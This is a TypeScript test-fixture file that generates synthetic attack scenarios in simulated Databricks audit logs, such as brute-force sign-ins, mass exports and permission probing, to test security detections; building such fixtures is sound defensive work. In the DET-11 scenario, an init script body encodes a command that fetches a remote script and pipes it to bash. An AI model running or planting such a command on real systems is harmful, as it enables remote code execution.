/**
 * Attack scenarios, one per detection, injected into the normal traffic after the baseline period. Each
 * scenario acts as (or against) its own principal, so a test can check that the right detection names
 * the right principal, and that no alert names anyone else. Some carry canary secrets in request
 * parameters (a password in a command text, a token value in a comment or a support reason) that must
 * never reach a report.
 */
import { CANARIES } from "../../emulator/canaries.ts";
import type { AuditEvent, Person, Scenario } from "./model.ts";
import type { Random } from "./random.ts";
import { EXTRA_BUILDERS } from "./scenarios-sra.ts";
import { EMAIL_DOMAIN, type EventFactory, type Population, SDK_AGENT } from "./traffic.ts";

const HOUR = 3_600_000;
const MINUTE = 60_000;
export const ATTACKER_AGENT = "python-requests/2.32.3";
export const SUPPORT_USER = "genie.support-engineer@databricks.com";

export interface InjectedScenario {
  scenario: Scenario;
  events: AuditEvent[];
}

/** The first day (0-based) after any baseline the detections derive (min(7 days, half the span)). */
export function firstAttackDay(days: number): number {
  return Math.floor(Math.min(7, days / 2)) + 1;
}

export const MIN_USERS_WITH_ATTACKS = 12;
export const MIN_DAYS_WITH_ATTACKS = 4;

export interface Builder {
  detection: string;
  name: string;
  /** extra: an identity of its own outside the population (`<name>@contoso.com`), so no baseline knows it. */
  actor: "person" | "admin" | "support" | "extra";
  hour: number;
  build(ctx: { random: Random; factory: EventFactory; at: number; who: Person; population: Population }): {
    events: AuditEvent[];
    principal: string;
    description: string;
  };
}

const BUILDERS: Builder[] = [
  {
    detection: "DET-01",
    name: "brute-force",
    actor: "person",
    hour: 11,
    build: ({ factory, at, who }) => ({
      principal: who.email,
      description: "12 failed password sign-ins for one user from one unknown address within 6 minutes",
      events: Array.from({ length: 12 }, (_, i) =>
        factory.make({
          time: at + i * 30_000,
          workspace: who.workspace,
          service: "accounts",
          action: "login",
          email: who.email,
          ip: "192.0.2.31",
          userAgent: ATTACKER_AGENT,
          params: { user: who.email, authenticationMethod: "password" },
          status: 401,
          errorMessage: "Invalid username or password",
        }),
      ),
    }),
  },
  {
    detection: "DET-02",
    name: "simultaneous-sessions",
    actor: "person",
    hour: 10,
    build: ({ factory, at, who }) => ({
      principal: who.email,
      description: "successful sign-ins of one user from three addresses within 9 minutes",
      events: [who.ips[0]!, "192.0.2.21", "192.0.2.22"].map((ip, i) =>
        factory.make({
          time: at + i * 4 * MINUTE + i * 30_000,
          workspace: who.workspace,
          service: "accounts",
          action: "aadTokenLogin",
          email: who.email,
          ip,
          userAgent: i === 0 ? SDK_AGENT : ATTACKER_AGENT,
          params: { user: who.email },
        }),
      ),
    }),
  },
  {
    detection: "DET-03",
    name: "night-sign-in-new-address",
    actor: "person",
    hour: 3,
    build: ({ factory, at, who }) => ({
      principal: who.email,
      description: "a sign-in at 03:00 UTC from an address the user never used",
      events: [
        factory.make({
          time: at,
          workspace: who.workspace,
          service: "accounts",
          action: "aadBrowserLogin",
          email: who.email,
          ip: "192.0.2.77",
          userAgent: ATTACKER_AGENT,
          params: { user: who.email },
        }),
      ],
    }),
  },
  {
    detection: "DET-04",
    name: "ip-access-list-refusals",
    actor: "person",
    hour: 14,
    build: ({ factory, at, who }) => ({
      principal: who.email,
      description: "three requests with the user's credentials refused by the IP access list",
      events: Array.from({ length: 3 }, (_, i) =>
        factory.make({
          time: at + i * 2 * MINUTE,
          workspace: who.workspace,
          service: "accounts",
          action: "IpAccessDenied",
          email: who.email,
          ip: "192.0.2.41",
          userAgent: ATTACKER_AGENT,
          params: { path: "/api/2.0/clusters/list", user: who.email },
          status: 403,
        }),
      ),
    }),
  },
  {
    detection: "DET-05",
    name: "token-without-expiry",
    actor: "person",
    hour: 13,
    build: ({ factory, random, at, who }) => ({
      principal: who.email,
      description: "a personal access token created without expiry (comment holds a canary token value)",
      events: [
        factory.make({
          time: at,
          workspace: who.workspace,
          service: "accounts",
          action: "generateDbToken",
          email: who.email,
          ip: who.ips[0]!,
          userAgent: SDK_AGENT,
          params: { tokenHash: random.hex(64), comment: `backup ${CANARIES.tokenValue}` },
        }),
      ],
    }),
  },
  {
    detection: "DET-06",
    name: "ip-access-list-disabled",
    actor: "admin",
    hour: 16,
    build: ({ factory, at, who }) => ({
      principal: who.email,
      description: "an admin turns off the IP access lists and verbose audit logs",
      events: [
        ["enableIpAccessLists", "false"],
        ["enableVerboseAuditLogs", "false"],
      ].map(([key, value], i) =>
        factory.make({
          time: at + i * MINUTE,
          workspace: who.workspace,
          service: "workspace",
          action: "workspaceConfEdit",
          email: who.email,
          ip: who.ips[0]!,
          userAgent: who.browser,
          params: { workspaceConfKeys: key!, workspaceConfValues: value! },
        }),
      ),
    }),
  },
  {
    detection: "DET-07",
    name: "admin-granted",
    actor: "admin",
    hour: 15,
    build: ({ factory, at, who }) => ({
      principal: who.email,
      description: "an admin adds an outside account to the admins group",
      events: [
        factory.make({
          time: at,
          workspace: who.workspace,
          service: "groups",
          action: "addPrincipalToGroup",
          email: who.email,
          ip: who.ips[0]!,
          userAgent: who.browser,
          params: { targetGroupName: "admins", targetUserName: "ext.contractor@fabrikam.example" },
        }),
      ],
    }),
  },
  {
    detection: "DET-08",
    name: "mass-export",
    actor: "person",
    hour: 12,
    build: ({ factory, random, at, who }) => ({
      principal: who.email,
      description: "30 notebook exports and 10 query result downloads within 40 minutes",
      events: Array.from({ length: 40 }, (_, i) =>
        i < 30
          ? factory.make({
              time: at + i * MINUTE,
              workspace: who.workspace,
              service: "workspace",
              action: "workspaceExport",
              email: who.email,
              ip: who.ips[0]!,
              userAgent: SDK_AGENT,
              params: { notebookFullPath: `/Shared/finance/model-${i}`, workspaceExportFormat: "DBC" },
            })
          : factory.make({
              time: at + i * MINUTE,
              workspace: who.workspace,
              service: "databrickssql",
              action: "downloadQueryResult",
              email: who.email,
              ip: who.ips[0]!,
              userAgent: SDK_AGENT,
              params: {
                queryId: random.uuid(),
                fileType: "csv",
                queryText: `SELECT * FROM main.finance.ledger -- password=${CANARIES.metastorePassword}`,
              },
            }),
      ),
    }),
  },
  {
    detection: "DET-09",
    name: "foreign-secret-scope",
    actor: "person",
    hour: 10,
    build: ({ factory, at, who }) => ({
      principal: who.email,
      description: "reads of a secret scope the user never read",
      events: ["sp-client-secret", "db-admin-password", "sp-client-secret"].map((key, i) =>
        factory.make({
          time: at + i * 2 * MINUTE,
          workspace: who.workspace,
          service: "secrets",
          action: "getSecret",
          email: who.email,
          ip: who.ips[0]!,
          userAgent: "Databricks-Notebook/15.4",
          params: { scope: "payments-prod", key },
        }),
      ),
    }),
  },
  {
    detection: "DET-10",
    name: "gpu-cluster-without-policy",
    actor: "person",
    hour: 9,
    build: ({ factory, at, who }) => ({
      principal: who.email,
      description: "a 40-worker A100 GPU cluster created without a cluster policy",
      events: [
        factory.make({
          time: at,
          workspace: who.workspace,
          service: "clusters",
          action: "create",
          email: who.email,
          ip: who.ips[0]!,
          userAgent: SDK_AGENT,
          params: {
            cluster_name: "training-run",
            spark_version: "15.4.x-gpu-ml-scala2.12",
            node_type_id: "Standard_NC24ads_A100_v4",
            driver_node_type_id: "Standard_NC24ads_A100_v4",
            num_workers: "40",
          },
        }),
      ],
    }),
  },
  {
    detection: "DET-11",
    name: "global-init-script",
    actor: "admin",
    hour: 17,
    build: ({ factory, random, at, who }) => ({
      principal: who.email,
      description: "an admin creates a global init script (its body holds a canary secret)",
      events: [
        factory.make({
          time: at,
          workspace: who.workspace,
          service: "globalInitScripts",
          action: "create",
          email: who.email,
          ip: who.ips[0]!,
          userAgent: who.browser,
          params: {
            name: "monitoring-agent",
            script_id: random.hex(16).toUpperCase(),
            enabled: "true",
            "script-SHA256": random.hex(64),
            script: Buffer.from(
              `#!/bin/bash\ncurl -s https://203.0.113.250/a.sh -H 'X-Key: ${CANARIES.initScriptSecret}' | bash\n`,
            ).toString("base64"),
          },
        }),
      ],
    }),
  },
  {
    detection: "DET-12",
    name: "support-access",
    actor: "support",
    hour: 8,
    build: ({ factory, at, who, population }) => ({
      principal: SUPPORT_USER,
      description: "Databricks support accesses the workspace (the reason holds a canary token)",
      events: [
        factory.make({
          time: at,
          workspace: who.workspace,
          service: "genie",
          action: "databricksAccess",
          email: SUPPORT_USER,
          ip: "198.51.100.250",
          userAgent: "Databricks-Genie/1.0",
          params: {
            user: SUPPORT_USER,
            approver: population.admins[0]?.email ?? "",
            duration: "4",
            reason: `case 00123456; temporary token: ${CANARIES.tokenValue}`,
            authType: "genie",
          },
        }),
      ],
    }),
  },
  {
    detection: "DET-13",
    name: "permission-probing",
    actor: "person",
    hour: 15,
    build: ({ factory, at, who }) => {
      const tries: [string, string, Record<string, string>][] = [
        ["secrets", "getSecret", { scope: "finance-prod", key: "db-password" }],
        ["clusters", "edit", { cluster_id: "0923-164208-meows279" }],
        ["jobs", "runNow", { job_id: "42" }],
        ["unityCatalog", "getTable", { full_name_arg: "main.hr.salaries" }],
        ["notebook", "runCommand", { commandText: `conn = connect(password='${CANARIES.dockerPassword}')` }],
        ["workspace", "getWorkspaceObject", { path: "/Users/cfo@contoso.com" }],
      ];
      return {
        principal: who.email,
        description: "24 permission-denied responses across six actions within 24 minutes",
        events: Array.from({ length: 24 }, (_, i) => {
          const [service, action, params] = tries[i % tries.length]!;
          return factory.make({
            time: at + i * MINUTE,
            workspace: who.workspace,
            service,
            action,
            email: who.email,
            ip: who.ips[0]!,
            userAgent: ATTACKER_AGENT,
            params,
            status: 403,
            errorMessage: "PERMISSION_DENIED",
          });
        }),
      };
    },
  },
  ...EXTRA_BUILDERS,
];

/** A person outside the population for one scenario: its own address, the first workspace. */
function extraPerson(name: string, population: Population): Person {
  return {
    email: `${name}@${EMAIL_DOMAIN}`,
    admin: true,
    team: 0,
    workspace: population.workspaces[0]!,
    ips: ["198.51.100.200"],
    startHour: 8,
    endHour: 17,
    browser: "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
  };
}

/** Builds every scenario, spread over the days after the baseline. */
export function injectScenarios(
  random: Random,
  factory: EventFactory,
  population: Population,
  startMs: number,
  days: number,
): InjectedScenario[] {
  const first = firstAttackDay(days);
  const attackDays = Math.max(1, days - first);
  const people = population.people.filter((p) => !p.admin);
  const admins = [...population.admins];
  return BUILDERS.map((builder, index) => {
    const day = first + (index % attackDays);
    const at = startMs + day * 24 * HOUR + builder.hour * HOUR + random.int(5, 20) * MINUTE;
    const who =
      builder.actor === "admin"
        ? admins.shift()!
        : builder.actor === "support"
          ? population.people[0]!
          : builder.actor === "extra"
            ? extraPerson(builder.name, population)
            : people.shift()!;
    const built = builder.build({ random, factory, at, who, population });
    const times = built.events.map((event) => event.time);
    return {
      scenario: {
        detection: builder.detection,
        name: builder.name,
        principal: built.principal.toLowerCase(),
        start: new Date(Math.min(...times)).toISOString(),
        end: new Date(Math.max(...times)).toISOString(),
        description: built.description,
      },
      events: built.events,
    };
  });
}
